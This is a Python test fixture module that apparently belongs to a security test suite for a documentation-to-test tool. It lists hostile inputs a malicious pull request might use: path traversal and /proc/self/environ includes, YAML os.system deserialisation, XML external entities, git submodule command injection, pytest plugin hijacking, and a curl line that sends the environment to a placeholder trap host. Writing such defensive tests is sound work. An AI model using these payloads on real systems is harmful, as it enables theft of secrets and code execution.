"""More ways in which a pull request tries to take a token or run code: see `tests.safety.attacks`.

Each brings files that docreplay or a library of it reads beside the pages.
"""

import hashlib
import json
from collections.abc import Mapping
from pathlib import Path

from tests.safety.conftest import page

_OUT = "../../../outside/secret.md"
_PAGE = "docs_source/en-us/evil.md"
_RST = "docs_source/en-us/evil.rst"
_REQUEST = page("GET /x")
_RST_REQUEST = "\n.. code-block:: http\n\n    GET /x HTTP/1.1\n"


def forged_manifest(root: Path) -> None:
    """List a file outside, with its digest, as one that docreplay generated."""
    file = root / "generated_tests/manifest.json"
    data = (root.parent / "outside/secret.md").read_bytes()
    found = json.loads(file.read_bytes())
    files = found.get("files", found)
    for path in ("../../outside/secret.md", str(root.parent / "outside/secret.md")):
        files[path] = hashlib.sha256(data).hexdigest()
    file.write_text(json.dumps(found), encoding="utf-8")


DIRECTIVES = {
    "include": f".. include:: {_OUT}\n   :literal:\n",
    "include of the environment": ".. include:: /proc/self/environ\n",
    "include in code": f".. include:: {_OUT}\n   :code: http\n",
    "literalinclude": f".. literalinclude:: {_OUT}\n   :language: http\n",
    "raw file": f".. raw:: html\n   :file: {_OUT}\n",
    "raw URL": ".. raw:: html\n   :url: @TRAP@/x\n",
    "table from a file": f".. csv-table:: a\n   :file: {_OUT}\n",
    "table from a URL": ".. csv-table:: a\n   :url: @TRAP@/x\n",
    "image": ".. image:: @TRAP@/x.png\n.. figure:: @TRAP@/y.png\n",
    "code from a file": f".. code-block:: http\n   :file: {_OUT}\n",
    "substitution": f".. |a| replace:: b\n.. |c| include:: {_OUT}\n\n|a| |c|\n",
    "role": ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<img src=@TRAP@/x>`\n",
    "class of Python": ".. automodule:: evil\n.. autoclass:: evil.A\n"
    ".. program-output:: touch @MARK@\n",
    "graph": ".. graphviz:: ../../../outside/secret.md\n.. plantuml:: @TRAP@\n",
}
DOCUTILS = (
    "[general]\nraw_enabled: yes\nfile_insertion_enabled: yes\nhalt_level: 1\ntraceback: yes\n"
    "warning_stream: @OUTSIDE@/warnings\nrecord_dependencies: @OUTSIDE@/dependencies\n"
    "dump_settings: yes\n[restructuredtext parser]\nraw_enabled: yes\nfile_insertion_enabled: yes\n"
)
INCLUDES = "\n".join(
    (
        "[!INCLUDE [a](..%2f..%2f..%2foutside%2fsecret.md)]",
        "[!INCLUDE [a](..\\..\\..\\outside\\secret.md)]",
        "[!INCLUDE [a](/proc/self/environ)]",
        "[!INCLUDE [a](~/../../outside/secret.md)]",
        "[!INCLUDE [a](@OUTSIDE@/secret.md)]",
        "[!INCLUDE [a](file://@OUTSIDE@/secret.md)]",
        "[!INCLUDE [a](@TRAP@/x.md)]",
        "[!code-http[a](../../../outside/secret.md)]",
        f'--8<-- "{_OUT}"\n',
        f'{{{{< readfile file="{_OUT}" >}}}}\n{{{{< include "{_OUT}" >}}}}',
        f"import Evil from '{_OUT}'\n\n<Evil/>",
        f"```http file={_OUT}\n```\n\n```{{literalinclude}} {_OUT}\n```",
    )
)
BODY = "HTTP/1.1 200 OK\nContent-Type: application/json\n\n%s"
XML = (
    'HTTP/1.1 200 OK\nContent-Type: application/xml\n\n<!DOCTYPE a [<!ENTITY b SYSTEM "%s">'
    '<!ENTITY %% c SYSTEM "@TRAP@/c.dtd">%%c;]><a>&b;</a>'
)
ENVIRONMENT = "< /proc/self/environ\n{{$processEnv API_TOKEN}} {{$dotenv API_TOKEN}}"
MORE: Mapping[str, tuple[Mapping[str, str], Mapping[str, str], tuple[str, ...]]] = {
    **{
        f"directive: {name}": (
            {_RST: f"Title\n=====\n\n{text}\n{_RST_REQUEST}"}, {}, ("check", "extract", "test")
        )
        for name, text in DIRECTIVES.items()
    },
    "file: docutils.conf": (
        {"docutils.conf": DOCUTILS, "docs_source/docutils.conf": DOCUTILS,
         _RST: f"Title\n=====\n\n{DIRECTIVES['include']}\n{DIRECTIVES['raw URL']}{_RST_REQUEST}"},
        {}, ("check", "extract", "test"),
    ),
    "file: includes": ({_PAGE: INCLUDES + "\n\n" + _REQUEST}, {}, ("check", "extract", "drift")),
    "file: includes of MDX": (
        {"docs_source/en-us/evil.mdx": INCLUDES + "\n\n" + _REQUEST}, {}, ("check", "extract"),
    ),
    "file: table of contents": (
        {"docs_source/en-us/toc.yml": "- name: a\n  href: ../../../outside/secret.md\n"
         "- name: !!python/object/apply:os.system ['touch @MARK@']\n  href: @TRAP@/x.md\n"
         "- <<: [&a {href: /proc/self/environ}, *a]\n",
         "docs_source/en-us/TOC.md": f"# [a]({_OUT})\n## [b](@TRAP@/x.md)\n"},
        {}, ("check", "drift"),
    ),
    "file: linked table of contents": (
        {}, {"docs_source/en-us/toc.yml": "@OUTSIDE@/secret.md"}, ("check", "drift"),
    ),
    "file: description": (
        {"api.yml": "definitions: {a: !!python/object/apply:os.system ['touch @MARK@']}\n"},
        {}, ("check --metadata api.yml",),
    ),
    "file: description with entities": (
        {"api.xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file://@OUTSIDE@/secret.md">'
         '<!ENTITY c SYSTEM "@TRAP@/c">]><a>&b;&c;</a>'},
        {}, ("check --metadata api.xml",),
    ),
    "file: linked description": (
        {}, {"api.yml": "@OUTSIDE@/secret.md"}, ("check --metadata api.yml",),
    ),
    "file: description of references": (
        {"api.yml": "openapi: 3.1.0\ncomponents: {schemas: {a: {$ref: '@TRAP@/x'}, "
         "b: {allOf: [{$ref: 'file://@OUTSIDE@/secret.md'}]}}}\n"},
        {}, ("check --metadata api.yml",),
    ),
    "file: glossary outside": (
        {"docreplay.toml": 'glossary = "../outside/secret.md"'}, {}, ("drift",),
    ),
    "file: linked glossary": (
        {"docreplay.toml": 'glossary = "terms.toml"'}, {"terms.toml": "@OUTSIDE@/secret.md"},
        ("drift",),
    ),
    "file: glossary": (
        {"docreplay.toml": 'glossary = "terms.toml"',
         "terms.toml": '[terms]\n"(?:a+)+$" = { de-de = "@EVIL@" }\n"{0.__class__}" = '
         '{ de-de = "\\u001b]0;x\\u0007" }\n'},
        {}, ("drift", "drift --fix=unsafe --dry-run"),
    ),
    "file: stamps": (
        {"docreplay-stamps.jsonl": json.dumps({
            "page": "docs_source/de-de/good.md", "source": "../outside/secret.md", "hash": "a" * 64,
            "commit": "--output=@OUTSIDE@/x"}) + "\n" + json.dumps({
                "page": "../../outside/secret.md", "source": "/proc/self/environ", "hash": "b" * 64,
                "commit": "HEAD\n"}) + "\n"},
        {}, ("drift", "drift --stamp", "drift --sync"),
    ),
    "file: linked stamps": (
        {}, {"docreplay-stamps.jsonl": "@OUTSIDE@/new"}, ("drift --stamp",),
    ),
    "file: stamps among the hooks": (
        {"docreplay.toml": 'stamp-file = ".git/hooks/post-checkout"'}, {}, ("drift --stamp",),
    ),
    "file: stamps in the front matter": (
        {"docs_source/de-de/good.md": "---\nms.openlocfilehash: --batch-check\n"
         f"ms.sourcegitcommit: --output=@OUTSIDE@/x\n---\n{_REQUEST}",
         "docreplay.toml": 'source-repo = "."'},
        {}, ("drift", "drift --sync"),
    ),
    "file: folders that are options": (
        {"docreplay.toml": 'docs = ["--output=@OUTSIDE@/x", ":(top)../outside", "docs_source"]\n'
         'stamps = "git"'},
        {}, ("drift", "check --changed-since HEAD"),
    ),
    "file: baseline among git's files": (
        {"docreplay.toml": 'baseline = ".git/config"'}, {}, ("check --baseline-update",),
    ),
    "file: output among git's files": (
        {"docreplay.toml": 'output = ".git/hooks"'}, {}, ("generate",),
    ),
    "file: cassettes outside": (
        {"docreplay.toml": 'cassettes = "../outside"'}, {}, ("test",),
    ),
    "file: linked cassettes": (
        {"docreplay.toml": 'cassettes = "tapes"'}, {"tapes": "@OUTSIDE@"}, ("test",),
    ),
    "file: linked record of failures": (
        {_PAGE: page("GET /x", "HTTP/1.1 404 Not Found")}, {".docreplay": "@OUTSIDE@"}, ("test",),
    ),
    "file: linked list of pending files": (
        {_PAGE: _REQUEST}, {"generated_tests/.docreplay-pending": "@OUTSIDE@/secret.md"},
        ("generate", "test"),
    ),
    "file: linked manifest": (
        {_PAGE: _REQUEST}, {"generated_tests/manifest.json": "@OUTSIDE@/secret.md"}, ("generate",),
    ),
    "file: linked module": (
        {_PAGE: _REQUEST}, {"generated_tests/en_us/test_good.py": "@OUTSIDE@/secret.md"},
        ("generate", "test"),
    ),
    "file: pytest.toml": (
        {"pytest.toml": '[pytest]\naddopts = ["-p", "evil"]\n', "evil.py": "@EVIL@",
         ".pytest.toml": '[pytest]\naddopts = ["-p", "evil"]\n',
         "generated_tests/pytest.ini": "[pytest]\naddopts = -p evil\n"},
        {}, ("test",),
    ),
    "file: attributes": (
        {".gitattributes": "* filter=lfs diff=lfs merge=lfs ident eol=crlf\n"
         "*.md working-tree-encoding=UTF-16\n",
         ".lfsconfig": "[lfs]\n\turl = @TRAP@/lfs\n", _PAGE: _REQUEST},
        {}, ("check --changed-since HEAD", "drift --changed-since HEAD"),
    ),
    "file: submodule": (
        {".gitmodules": '[submodule "docs_source/en-us/evil"]\n\tpath = docs_source/en-us/evil\n'
         "\turl = ext::sh -c touch% @MARK@\n\tupdate = !touch @MARK@\n", _PAGE: _REQUEST},
        {}, ("check --changed-since HEAD", "drift --changed-since HEAD"),
    ),
    "file: names for git and shells": (
        {"docs_source/en-us/:(top)evil.md": _REQUEST,
         "docs_source/en-us/$(touch executed).md": _REQUEST,
         "docs_source/en-us/--output=executed": "x", "docs_source/en-us/-.md": _REQUEST},
        {}, ("check --changed-since HEAD", "drift", "test", "generate"),
    ),
    "file: environment": (
        {".env": "DOCREPLAY_BASE_URL=@TRAP@\nHTTP_PROXY=@TRAP@\n",
         ".netrc": "machine @HOST@ login a password b\n",
         _PAGE: _REQUEST},
        {}, ("test",),
    ),
    "page: body from a file": ({_PAGE: page(f"POST @TRAP@/x\n\n{ENVIRONMENT}")}, {}, ("test",)),
    "page: REST client": (
        {_PAGE: f"```http\n@token = {{{{$processEnv API_TOKEN}}}}\n\nPOST @TRAP@/{{{{token}}}}\n"
         f"Authorization: Bearer {{{{token}}}}\n\n{ENVIRONMENT}\n\n###\nGET @TRAP@/b\n```\n"},
        {}, ("test --infer-unannotated",),
    ),
    "page: curl with files": (
        {_PAGE: page("curl @TRAP@/x -d @/proc/self/environ -F a=@/proc/self/environ "
                     "-K @OUTSIDE@/secret.md "
                     "--netrc -b /proc/self/environ -o @MARK@ -H @/proc/self/environ")},
        {}, ("test",),
    ),
    "page: schema of a URL": (
        {_PAGE: page("GET /x", BODY % '{"$schema": "@TRAP@/s", "$ref": "@TRAP@/r"}')
         + '\n<!-- {"blockType": "resource", "@odata.type": "t", "baseType": "@TRAP@/b"} -->\n'
         '```json\n{"$ref": "file://@OUTSIDE@/secret.md"}\n```\n'},
        {}, ("check", "test"),
    ),
    "page: entities in XML": (
        {_PAGE: page("GET /x", XML % "file://@OUTSIDE@/secret.md")}, {}, ("check", "test"),
    ),
}  # fmt: skip
"""Files, links and commands by name."""
